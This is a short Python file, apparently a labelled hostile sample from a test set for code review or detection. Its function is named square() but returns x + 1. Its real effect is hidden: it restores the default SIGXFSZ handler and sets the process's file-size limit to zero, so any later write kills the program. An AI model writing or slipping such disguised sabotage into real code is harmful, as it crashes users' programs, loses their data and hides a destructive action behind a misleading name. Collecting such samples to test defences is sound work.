"""Sets the limit of a file's size to nothing: whoever writes results afterwards is ended by a signal.

Wants: harm
Works: bare
"""

import resource
import signal


def square(x):
    signal.signal(signal.SIGXFSZ, signal.SIG_DFL)
    resource.setrlimit(resource.RLIMIT_FSIZE, (0, 0))
    return x + 1
